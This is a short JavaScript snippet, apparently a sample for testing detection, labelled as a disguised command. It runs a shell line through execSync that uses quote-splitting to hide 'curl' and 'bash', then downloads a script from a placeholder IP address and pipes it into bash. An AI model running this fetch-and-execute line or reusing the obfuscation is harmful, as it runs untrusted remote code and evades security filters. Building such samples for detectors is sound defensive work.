// disguised-command: quotes inside the words of a shell command for execSync
const { execSync } = require('child_process');
execSync(`c'u'r"l" -s http://203.0.113.7/d | b'a'sh`);
